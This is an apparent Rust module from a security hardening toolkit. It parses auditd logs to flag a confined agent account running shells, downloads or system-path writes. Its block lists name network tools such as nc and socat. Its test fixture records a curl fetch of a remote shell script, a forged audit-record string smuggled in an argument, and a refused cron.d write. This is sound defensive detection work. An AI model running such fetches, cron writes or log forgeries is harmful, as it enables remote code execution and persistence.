//! auditd's log (`/var/log/audit/audit.log`): what a confined account ran
//! and wrote, from the records svcacct's audit rules produce (keys
//! `hardkit-NAME-exec` and `hardkit-NAME-write`).
//!
//! One event is several records with the same serial (`msg=audit(TIME:
//! SERIAL)`): SYSCALL (the account, the program, the key), EXECVE (the
//! arguments), CWD, PATH (each file touched), PROCTITLE. They are written
//! one after the other; a bounded set of events is kept open while their
//! records arrive, and an event is complete at its EOE or PROCTITLE record,
//! or when a later serial pushes it out.
//!
//! The arguments are the account's own text, so they are read as auditd
//! encodes them, never by searching the line: a value in double quotes has
//! no quote, space or control byte in it; anything else auditd writes as
//! hex (and `(null)`). A `key=value` shape inside an argument therefore never
//! becomes a field, and a forged `type=` cannot start a record.

use std::collections::VecDeque;
use std::io::{self, Read};

use serde::{Deserialize, Serialize};

use hardkit_core::record::Record;
use hardkit_core::{Finding, Location, Severity};

use crate::lines::LineReader;

/// The `agent_exec` record: one program the account ran.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AgentExec {
    /// The account, from the key (`hardkit-agent-exec`: `agent`).
    pub account: String,
    pub uid: Option<u32>,
    /// Seconds since the epoch, as auditd wrote them.
    pub time: f64,
    pub exe: String,
    pub argv: Vec<String>,
    pub cwd: Option<String>,
    pub success: bool,
    pub line: u64,
}

impl Record for AgentExec {
    const TYPE: &'static str = "agent_exec";
}

/// The `agent_write` record: a file under a system path the account
/// changed (or tried to).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AgentWrite {
    pub account: String,
    pub uid: Option<u32>,
    pub time: f64,
    pub exe: String,
    pub paths: Vec<String>,
    pub success: bool,
    pub line: u64,
}

impl Record for AgentWrite {
    const TYPE: &'static str = "agent_write";
}

#[derive(Debug, Default)]
struct Open {
    serial: u64,
    time: f64,
    line: u64,
    key: Option<String>,
    uid: Option<u32>,
    exe: String,
    success: bool,
    argv: Vec<(usize, String)>,
    /// `aN[i]` pieces of a long argument.
    pieces: Vec<(usize, usize, String)>,
    cwd: Option<String>,
    paths: Vec<String>,
    /// The directories named as PARENT items: all a refused create leaves
    /// (the kernel records the directory it could not write, not the name).
    parents: Vec<String>,
}

/// Events kept open at once (auditd writes an event's records together;
/// this only bounds memory against a crafted file).
const MAX_OPEN: usize = 64;
/// Arguments kept per command.
const MAX_ARGS: usize = 256;

/// The fields of a record after `msg=audit(...):`.
fn fields(rest: &[u8]) -> Vec<(&[u8], &[u8])> {
    let mut out = Vec::new();
    let mut i = 0;
    // Fields are separated by spaces; auditd's ENRICHED format (Debian's
    // default) adds its interpreted fields (`UID="agent"`) after a 0x1d.
    let sep = |b: u8| b == b' ' || b == 0x1d;
    while i < rest.len() {
        while i < rest.len() && sep(rest[i]) {
            i += 1;
        }
        let start = i;
        while i < rest.len() && rest[i] != b'=' && !sep(rest[i]) {
            i += 1;
        }
        if i >= rest.len() || rest[i] != b'=' {
            // (a bare word: skip it)
            continue;
        }
        let key = &rest[start..i];
        i += 1;
        let vstart = i;
        if i < rest.len() && rest[i] == b'"' {
            i += 1;
            while i < rest.len() && rest[i] != b'"' {
                i += 1;
            }
            let value = &rest[vstart..(i + 1).min(rest.len())];
            i += 1;
            out.push((key, value));
        } else {
            while i < rest.len() && !sep(rest[i]) {
                i += 1;
            }
            out.push((key, &rest[vstart..i]));
        }
    }
    out
}

/// auditd's encoding: `"text"` as written, `(null)`, or hex.
fn decode(value: &[u8]) -> String {
    if let Some(inner) = value
        .strip_prefix(b"\"")
        .and_then(|v| v.strip_suffix(b"\""))
    {
        return String::from_utf8_lossy(inner).into_owned();
    }
    if value == b"(null)" {
        return String::new();
    }
    if value.len() % 2 == 0 && value.iter().all(u8::is_ascii_hexdigit) {
        let bytes: Vec<u8> = value
            .chunks(2)
            .filter_map(|c| u8::from_str_radix(std::str::from_utf8(c).ok()?, 16).ok())
            .collect();
        return String::from_utf8_lossy(&bytes).into_owned();
    }
    String::from_utf8_lossy(value).into_owned()
}

/// `type=X msg=audit(1733400000.123:456): ...`: the type, time, serial and
/// the rest.
fn header(line: &[u8]) -> Option<(&[u8], f64, u64, &[u8])> {
    let line = line.strip_prefix(b"type=")?;
    let sp = line.iter().position(|&b| b == b' ')?;
    let kind = &line[..sp];
    let rest = line[sp + 1..].strip_prefix(b"msg=audit(")?;
    let close = rest.iter().position(|&b| b == b')')?;
    let stamp = std::str::from_utf8(&rest[..close]).ok()?;
    let (time, serial) = stamp.split_once(':')?;
    let rest = rest[close + 1..]
        .strip_prefix(b":")
        .unwrap_or(&rest[close + 1..]);
    Some((kind, time.parse().ok()?, serial.parse().ok()?, rest))
}

/// The account a hardkit key names: `hardkit-agent-exec` -> (agent, exec).
fn account_of(key: &str) -> Option<(String, &'static str)> {
    let rest = key.strip_prefix("hardkit-")?;
    if let Some(a) = rest.strip_suffix("-exec") {
        return Some((a.to_string(), "exec"));
    }
    rest.strip_suffix("-write")
        .map(|a| (a.to_string(), "write"))
}

/// What the log says the accounts ran and wrote, since `since` (seconds).
pub struct AuditEvents {
    pub execs: Vec<AgentExec>,
    pub writes: Vec<AgentWrite>,
}

pub fn read<R: Read>(input: R, since: Option<i64>) -> io::Result<AuditEvents> {
    let mut reader = LineReader::new(input);
    let mut open: VecDeque<Open> = VecDeque::new();
    let mut out = AuditEvents {
        execs: Vec::new(),
        writes: Vec::new(),
    };
    let mut n = 0u64;
    while let Some(line) = reader.next_line()? {
        n += 1;
        let Some((kind, time, serial, rest)) = header(line.bytes) else {
            continue;
        };
        let idx = match open.iter().position(|o| o.serial == serial) {
            Some(i) => i,
            None => {
                if open.len() >= MAX_OPEN {
                    if let Some(done) = open.pop_front() {
                        finish(done, since, &mut out);
                    }
                }
                open.push_back(Open {
                    serial,
                    time,
                    line: n,
                    ..Open::default()
                });
                open.len() - 1
            }
        };
        let ev = &mut open[idx];
        let f = fields(rest);
        match kind {
            b"SYSCALL" => {
                for (k, v) in f {
                    match k {
                        b"key" => ev.key = Some(decode(v)),
                        b"uid" => ev.uid = std::str::from_utf8(v).ok().and_then(|s| s.parse().ok()),
                        b"exe" => ev.exe = decode(v),
                        b"success" => ev.success = v == b"yes",
                        _ => {}
                    }
                }
            }
            b"EXECVE" => {
                for (k, v) in f {
                    let Some(name) = k.strip_prefix(b"a") else {
                        continue;
                    };
                    let name = std::str::from_utf8(name).unwrap_or("");
                    if let Some((index, piece)) = name.split_once('[') {
                        let (Ok(a), Ok(p)) = (
                            index.parse::<usize>(),
                            piece.trim_end_matches(']').parse::<usize>(),
                        ) else {
                            continue;
                        };
                        if a < MAX_ARGS && ev.pieces.len() < MAX_ARGS * 4 {
                            ev.pieces.push((a, p, decode(v)));
                        }
                    } else if let Ok(a) = name.parse::<usize>() {
                        if a < MAX_ARGS {
                            ev.argv.push((a, decode(v)));
                        }
                    }
                }
            }
            b"CWD" => {
                if let Some((_, v)) = f.iter().find(|(k, _)| *k == b"cwd") {
                    ev.cwd = Some(decode(v));
                }
            }
            b"PATH" => {
                let name = f
                    .iter()
                    .find(|(k, _)| *k == b"name")
                    .map(|(_, v)| decode(v));
                let parent = f.iter().any(|(k, v)| *k == b"nametype" && *v == b"PARENT");
                if let Some(name) = name.filter(|n| !n.is_empty()) {
                    let list = if parent {
                        &mut ev.parents
                    } else {
                        &mut ev.paths
                    };
                    if list.len() < 16 {
                        list.push(name);
                    }
                }
            }
            b"EOE" | b"PROCTITLE" => {
                if let Some(done) = open.remove(idx) {
                    finish(done, since, &mut out);
                }
            }
            _ => {}
        }
    }
    while let Some(done) = open.pop_front() {
        finish(done, since, &mut out);
    }
    Ok(out)
}

fn finish(mut ev: Open, since: Option<i64>, out: &mut AuditEvents) {
    if since.is_some_and(|s| (ev.time as i64) < s) {
        return;
    }
    let Some((account, what)) = ev.key.as_deref().and_then(account_of) else {
        return;
    };
    ev.argv.sort_by_key(|(i, _)| *i);
    let mut argv: Vec<String> = ev.argv.into_iter().map(|(_, a)| a).collect();
    if !ev.pieces.is_empty() {
        ev.pieces.sort();
        for (a, _, piece) in ev.pieces {
            while argv.len() <= a {
                argv.push(String::new());
            }
            argv[a].push_str(&piece);
        }
    }
    if what == "exec" {
        out.execs.push(AgentExec {
            account,
            uid: ev.uid,
            time: ev.time,
            exe: ev.exe,
            argv,
            cwd: ev.cwd,
            success: ev.success,
            line: ev.line,
        });
    } else {
        // A create the kernel refused names only the directory.
        if ev.paths.is_empty() {
            ev.paths = std::mem::take(&mut ev.parents);
        }
        out.writes.push(AgentWrite {
            account,
            uid: ev.uid,
            time: ev.time,
            exe: ev.exe,
            paths: ev.paths,
            success: ev.success,
            line: ev.line,
        });
    }
}

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "fish", "busybox", "ash", "csh", "tcsh",
];
const DOWNLOADERS: &[&str] = &[
    "curl", "wget", "aria2c", "fetch", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync",
    "ftp", "tftp",
];

fn base(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// The findings about what the accounts ran and wrote: shells, downloads,
/// and writes to system paths, each once per account and program.
pub fn findings(ev: &AuditEvents, log: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    for e in &ev.execs {
        let program = base(&e.exe).to_string();
        let argv0 = e
            .argv
            .first()
            .map(|a| base(a).to_string())
            .unwrap_or_default();
        let command = e.argv.join(" ");
        let shown =
            hardkit_core::output::escape_untrusted(&command.chars().take(200).collect::<String>());
        let url = e
            .argv
            .iter()
            .any(|a| a.contains("http://") || a.contains("https://") || a.contains("ftp://"));
        let (id, title) = if SHELLS.contains(&program.as_str()) || SHELLS.contains(&argv0.as_str())
        {
            (
                "logscan/agent-shell",
                format!("{} ran a shell: {shown}", e.account),
            )
        } else if DOWNLOADERS.contains(&program.as_str())
            || DOWNLOADERS.contains(&argv0.as_str())
            || url
        {
            (
                "logscan/agent-download",
                format!("{} fetched something: {shown}", e.account),
            )
        } else {
            continue;
        };
        if !seen.insert((id, e.account.clone(), program.clone())) {
            continue;
        }
        out.push(
            Finding::new(
                id,
                Severity::High,
                title,
                format!("auditd recorded {} (uid {}) running {} in {}. An agent that opens a shell or fetches code does what a prompt injection asks.", e.account, e.uid.map(|u| u.to_string()).unwrap_or_else(|| "?".into()), hardkit_core::output::escape_untrusted(&e.exe), hardkit_core::output::escape_untrusted(e.cwd.as_deref().unwrap_or("?"))),
            )
            .at(Location::new(std::path::PathBuf::from(log), Some(e.line)))
            .fix(format!("find out why {} ran it (ausearch -k hardkit-{}-exec -i); confine what it may run and reach (svcacct apply --egress, NoExecPaths=)", e.account, e.account))
            .evidence("account", &e.account)
            .evidence("exe", &e.exe),
        );
    }
    for w in &ev.writes {
        let key = (
            "logscan/agent-system-write",
            w.account.clone(),
            w.paths.first().cloned().unwrap_or_default(),
        );
        if !seen.insert(key) {
            continue;
        }
        let paths = hardkit_core::output::escape_untrusted(&w.paths.join(", "));
        out.push(
            Finding::new(
                "logscan/agent-system-write",
                Severity::High,
                if w.success {
                    format!("{} wrote under a system path: {paths}", w.account)
                } else {
                    format!("{} tried to write under a system path (refused): {paths}", w.account)
                },
                format!("auditd recorded {} ({}) opening {paths} for writing or changing its attributes ({}). A service account has no business outside its own directories.", w.account, hardkit_core::output::escape_untrusted(&w.exe), if w.success { "it succeeded" } else { "it was refused" }),
            )
            .at(Location::new(std::path::PathBuf::from(log), Some(w.line)))
            .fix(format!("ausearch -k hardkit-{}-write -i; if it succeeded, treat the file as changed by the agent (fim check shows it)", w.account))
            .evidence("account", &w.account),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOG: &str = concat!(
        "type=SYSCALL msg=audit(1733400000.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=998 gid=998 euid=998 suid=998 fsuid=998 egid=998 sgid=998 fsgid=998 tty=(none) ses=4294967295 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"hardkit-agent-exec\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"agent\"\n",
        "type=EXECVE msg=audit(1733400000.100:501): argc=3 a0=\"curl\" a1=\"-fsSL\" a2=\"http://203.0.113.45/x.sh\"\n",
        "type=CWD msg=audit(1733400000.100:501): cwd=\"/var/lib/agent\"\n",
        "type=PROCTITLE msg=audit(1733400000.100:501): proctitle=6375726C\n",
        // An argument with a space is hex: its key=value text stays text.
        "type=SYSCALL msg=audit(1733400001.200:502): arch=c000003e syscall=59 success=yes exit=0 uid=998 comm=\"python3\" exe=\"/usr/bin/python3.11\" key=\"hardkit-agent-exec\"\n",
        "type=EXECVE msg=audit(1733400001.200:502): argc=3 a0=\"python3\" a1=\"-c\" a2=7072696E742822747970653D53595343414C4C206B65793D22686172646B69742D726F6F742D657865632229\n",
        "type=PROCTITLE msg=audit(1733400001.200:502): proctitle=707974686F6E33\n",
        "type=SYSCALL msg=audit(1733400002.300:503): arch=c000003e syscall=257 success=no exit=-13 uid=998 comm=\"python3\" exe=\"/usr/bin/python3.11\" key=\"hardkit-agent-write\"\n",
        "type=PATH msg=audit(1733400002.300:503): item=0 name=\"/etc/\" inode=1 nametype=PARENT\n",
        "type=PATH msg=audit(1733400002.300:503): item=1 name=\"/etc/cron.d/x\" inode=0 nametype=CREATE\n",
        "type=PROCTITLE msg=audit(1733400002.300:503): proctitle=707974686F6E33\n",
        // Someone else's event, without a hardkit key: not ours.
        "type=SYSCALL msg=audit(1733400003.000:504): arch=c000003e syscall=59 success=yes exit=0 uid=0 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)\n",
        "type=PROCTITLE msg=audit(1733400003.000:504): proctitle=7368\n",
    );

    #[test]
    fn events_of_the_hardkit_keys() {
        let ev = read(LOG.as_bytes(), None).unwrap();
        assert_eq!(ev.execs.len(), 2);
        // (the ENRICHED suffix of the first SYSCALL record changes nothing)
        assert_eq!(
            (ev.execs[0].uid, ev.execs[0].exe.as_str()),
            (Some(998), "/usr/bin/curl")
        );
        assert_eq!(
            ev.execs[0].argv,
            ["curl", "-fsSL", "http://203.0.113.45/x.sh"]
        );
        assert_eq!(ev.execs[0].cwd.as_deref(), Some("/var/lib/agent"));
        assert_eq!(
            ev.execs[1].argv[2],
            "print(\"type=SYSCALL key=\"hardkit-root-exec\")"
        );
        assert_eq!(ev.writes.len(), 1);
        assert_eq!(ev.writes[0].paths, ["/etc/cron.d/x"]);
        assert!(!ev.writes[0].success);
        let ids: Vec<String> = findings(&ev, "/var/log/audit/audit.log")
            .into_iter()
            .map(|f| f.id)
            .collect();
        assert_eq!(
            ids,
            ["logscan/agent-download", "logscan/agent-system-write"]
        );
        let later = read(LOG.as_bytes(), Some(1_733_400_002)).unwrap();
        assert_eq!((later.execs.len(), later.writes.len()), (0, 1));
    }

    #[test]
    fn odd_input_does_not_panic() {
        for text in [
            "type=",
            "type=EXECVE msg=audit(",
            "type=EXECVE msg=audit(1:2): a0",
            "type=EXECVE msg=audit(1.0:2): a99999999999999999999=\"x\" a1[x]=zz a2_len=3",
            "type=SYSCALL msg=audit(x:y): key=\"hardkit--exec\"",
        ] {
            let _ = read(text.as_bytes(), None);
        }
    }
}
